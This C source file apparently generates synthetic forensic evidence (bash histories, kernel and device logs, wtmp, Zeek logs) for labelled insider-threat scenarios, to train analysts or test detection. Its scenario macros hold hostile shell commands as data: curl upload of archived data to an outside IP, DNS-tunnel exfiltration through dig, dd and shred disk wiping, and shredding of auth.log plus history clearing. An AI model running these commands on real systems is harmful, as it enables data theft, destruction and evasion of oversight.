#include "scenarios.h"

#include "cases.h"
#include "files.h"
#include "network.h"

#include <stdlib.h>
#include <string.h>

struct scenario {
	const char *name;
	unsigned story, network;	/* acts */
	bool has_device_log;		/* a stick was put in, says Windows */
	const char *history;		/* a server: what its administrator typed, or NULL */
	const char *typed;		/* and what somebody else did, moved in time by the seed */
	bool has_stick;			/* its kernel saw a storage device */
	bool is_wtmp_emptied;
};

/* With the times of begin and end. */
#define DEVICE \
	"[Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Example&Prod_Stick&Rev_1.00\\AA01020304&0]\r\n" \
	">>>  Section start %s.201\r\n" \
	"      cmd: \"C:\\Windows\\System32\\services.exe\"\r\n" \
	"<<<  Section end %s.642\r\n<<<  [Exit status: SUCCESS]\r\n\r\n"
#define DEVICE_TIME 1488979211	/* 2017-03-08 13:20:11 UTC */

/* Seconds: 1488960000 is 2017-03-08 08:00 UTC. */
#define WORK \
	"#1488960000\ncd /srv/data\n#1488960040\nls -l\n#1488960100\nvim notes.txt\n" \
	"#1488963700\nsudo apt-get update\n#1488963760\nsudo apt-get upgrade\n#1488970000\ndf -h\n"
#define PACKING \
	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n" \
	"#1488979869\ncurl -s -T /var/tmp/.cache.tgz https://203.0.113.88/u/\n#1488981200\nrm /var/tmp/.cache.tgz\n"
#define WIPING \
	"#1489089600\nsudo systemctl stop postgresql\n#1489089660\nsudo dd if=/dev/zero of=/dev/sdb bs=1M\n" \
	"#1489089900\nsudo shred -n 1 /dev/sdc\n"
#define HIDING "#1489066800\nsudo shred -u /var/log/auth.log\n#1489066830\nhistory -c\n"

#define PACKING_FOR_NAMES \
	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n" \
	"#1488979860\nfor c in $(base32 -w0 /var/tmp/.cache.tgz | fold -w 56); do dig +short " \
	"$c.t.cdn-metrics.example TXT; done\n#1488990000\nrm /var/tmp/.cache.tgz\n"
#define PACKING_TO_STICK \
	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n#1488980700\nsudo mount /dev/sdb1 /mnt\n" \
	"#1488980760\nsudo cp /var/tmp/.cache.tgz /mnt/\n#1488981000\nsudo umount /mnt\n" \
	"#1488981060\nrm /var/tmp/.cache.tgz\n"

static const struct scenario scenarios[] = {
	{ .name = "clean-office" },
	{ .name = "windows-upload", .story = STORY_GATHERING | STORY_REMOVING, .network = NETWORK_UPLOAD },
	{ .name = "windows-dns", .story = STORY_GATHERING, .network = NETWORK_TUNNEL },
	{ .name = "windows-usb", .story = STORY_GATHERING | STORY_REMOVING, .has_device_log = true },
	{ .name = "windows-wiper", .story = STORY_WIPING },
	{ .name = "windows-clearing", .story = STORY_CLEARING },
	{ .name = "windows-beacon", .network = NETWORK_BEACON },
	{ .name = "clean-server", .history = WORK },
	{ .name = "linux-upload", .network = NETWORK_UPLOAD, .history = WORK, .typed = PACKING },
	{ .name = "linux-dns", .network = NETWORK_TUNNEL, .history = WORK, .typed = PACKING_FOR_NAMES },
	{ .name = "linux-usb", .history = WORK, .typed = PACKING_TO_STICK, .has_stick = true },
	{ .name = "linux-wiper", .history = WORK, .typed = WIPING },
	{ .name = "linux-clearing", .history = WORK, .typed = HIDING, .is_wtmp_emptied = true },
	{ .name = "linux-beacon", .network = NETWORK_BEACON, .history = WORK },
};
#define SCENARIOS (sizeof scenarios / sizeof *scenarios)

static void put_text(const char *root, const char *path, const char *text)
{
	put_file(root, path, span_text(text));
}

/* glibc's struct utmp on amd64: type, pid, line, id, user, host, exit, session, time, address. */
static void add_logon(struct buf *to, uint32_t seconds, const char *user, const char *host)
{
	size_t start = to->len;
	char text[256] = { 0 };

	buf_add_u32le(to, 7);
	buf_add_u32le(to, 1200);
	strncpy(text, "pts/0", sizeof text - 1);
	buf_add(to, span_of(text, 32));
	buf_add_u32le(to, 0x302f);
	memset(text, 0, sizeof text);
	strncpy(text, user, 31);
	buf_add(to, span_of(text, 32));
	memset(text, 0, sizeof text);
	strncpy(text, host, 255);
	buf_add(to, span_of(text, 256));
	buf_add_u32le(to, 0);
	buf_add_u32le(to, 0);
	buf_add_u32le(to, seconds);
	while (to->len - start < 384)
		buf_add_u8(to, 0);
}

/* What an act's times are moved by: from 50 hours earlier to 20 later. */
static int64_t moved_by(uint32_t seed)
{
	return seed ? (int64_t)(seed * 2654435761u % (70 * 3600)) - 50 * 3600 : 0;
}

/* A history whose lines of time ("#1488960000") are moved. */
static void add_history(struct buf *to, const char *text, int64_t moved)
{
	struct span rest = span_text(text);

	while (rest.len) {
		struct span line = span_split(&rest, '\n');
		uint64_t t;

		if (line.at[0] == '#' && span_to_u64(span_from(line, 1), &t))
			buf_printf(to, "#%lld\n", (long long)((int64_t)t + moved));
		else
			buf_printf(to, "%.*s\n", SPAN_ARG(line));
	}
}

/* As rsyslog writes them by now, with year and zone. */
static void add_kernel_line(struct buf *to, int64_t seconds, const char *text)
{
	struct buf time = buf_new(64);

	timestamp_format(&time, seconds * TIME_SECOND, 6);
	buf_printf(to, "%.*s+00:00 srv01 kernel: %s\n", SPAN_ARG(span_sub(buf_span(&time), 0, time.len - 1)),
		   text);
	buf_free(&time);
}

static void put_kernel_log(const char *root, const struct scenario *s, int64_t moved)
{
	struct buf log = buf_new(1 << 16);

	for (int day = 0; day < 5; day++)
		add_kernel_line(&log, 1488787000 + day * 86400, "[12000.1] perf: interrupt took too long");
	if (s->has_stick) {
		add_kernel_line(&log, 1488980690 + moved, "[13001.1] usb 1-2: new high-speed USB device number 5 "
				"using xhci_hcd");
		add_kernel_line(&log, 1488980690 + moved, "[13001.2] usb 1-2: Product: Example Stick");
		add_kernel_line(&log, 1488980690 + moved, "[13001.2] usb 1-2: SerialNumber: AA01020304");
		add_kernel_line(&log, 1488980691 + moved, "[13001.3] usb-storage 1-2:1.0: USB Mass Storage device "
				"detected");
	}
	put_file(root, "srv01/var/log/kern.log", buf_span(&log));
	buf_free(&log);
}

static void put_server(const char *root, const struct scenario *s, int64_t moved)
{
	struct buf wtmp = buf_new(1 << 16), history = buf_new(1 << 16);

	for (uint32_t day = 0; day < 5 && !s->is_wtmp_emptied; day++)
		add_logon(&wtmp, 1488787000 + day * 86400, "mori", "10.20.0.5");
	put_text(root, "srv01/etc/hostname", "srv01\n");
	put_text(root, "srv01/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
		 "mori:x:1000:1000:Mori:/home/mori:/bin/bash\n");
	put_text(root, "srv01/etc/os-release", "ID=debian\nVERSION_ID=\"8\"\nPRETTY_NAME=\"Debian GNU/Linux 8\"\n");
	put_text(root, "srv01/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
	put_text(root, "srv01/var/log/auth.log",
		 "Mar  8 07:58:01 srv01 sshd[812]: Accepted publickey for mori from 10.20.0.5 port 50112 ssh2\n"
		 "Mar  8 07:58:01 srv01 sshd[812]: pam_unix(sshd:session): session opened for user mori by (uid=0)\n"
		 "Mar  8 17:02:44 srv01 sshd[812]: pam_unix(sshd:session): session closed for user mori\n");
	add_history(&history, s->history, 0);
	add_history(&history, s->typed ? s->typed : "", moved);
	put_file(root, "srv01/home/mori/.bash_history", buf_span(&history));
	buf_free(&history);
	put_kernel_log(root, s, moved);
	put_file(root, "srv01/var/log/wtmp", buf_span(&wtmp));
	buf_free(&wtmp);
}

/* "2017/03/08 13:20:11" */
static void device_time(int64_t seconds, char text[20])
{
	struct buf time = buf_new(64);

	timestamp_format(&time, seconds * TIME_SECOND, 0);
	snprintf(text, 20, "%.4s/%.2s/%.2s %.8s", (char *)time.at, (char *)time.at + 5, (char *)time.at + 8,
		 (char *)time.at + 11);
	buf_free(&time);
}

static void put_device_log(const char *root, int64_t moved)
{
	struct buf log = buf_new(1 << 12);
	char begin[20], end[20];

	device_time(DEVICE_TIME + moved, begin);
	device_time(DEVICE_TIME + 2 + moved, end);
	buf_printf(&log, DEVICE, begin, end);
	put_file(root, "DESIGN07/C/Windows/INF/setupapi.dev.log", buf_span(&log));
	buf_free(&log);
}

static void put_network(const char *root, unsigned acts, const struct network_flow *flows, uint32_t seed,
			int64_t moved)
{
	struct buf conn, dns;

	network_of_office(&conn, &dns, acts, flows, seed, moved);
	put_file(root, "zeek/conn.log", buf_span(&conn));
	put_file(root, "zeek/dns.log", buf_span(&dns));
	buf_free(&conn);
	buf_free(&dns);
}

/* Of what happens at every hour of some days only the minutes are moved. */
static bool write_case(const char *root, const char *name, uint32_t seed)
{
	const struct labelled_case *c = case_named(name);
	int64_t moved = c && !c->is_daily ? moved_by(seed) : seed * 37 % 1800;
	struct story story = { 0 };

	if (!c)
		return false;
	put_network(root, 0, c->flows, seed, moved);
	story_of_steps(&story, c->steps, seed, moved);
	story.first_record = c->first_record;
	put_logs(root, "DESIGN07", &story);
	free(story.events);
	if (c->renames.count)
		case_put_journal(root, &c->renames, moved);
	return true;
}

bool scenario_write(const char *root, const char *name, uint32_t seed)
{
	for (size_t i = 0; i < SCENARIOS; i++) {
		const struct scenario *s = &scenarios[i];
		struct story story = { 0 };

		if (strcmp(s->name, name))
			continue;
		put_network(root, s->network, NULL, seed, moved_by(seed));
		if (s->history) {
			put_server(root, s, moved_by(seed));
		} else {
			story_of_office(&story, s->story, seed, moved_by(seed));
			put_logs(root, "DESIGN07", &story);
			free(story.events);
		}
		if (s->has_device_log)
			put_device_log(root, moved_by(seed));
		return true;
	}
	return write_case(root, name, seed);
}

void scenario_names(FILE *to)
{
	for (size_t i = 0; i < SCENARIOS; i++)
		fprintf(to, "%s, ", scenarios[i].name);
	case_names(to);
}
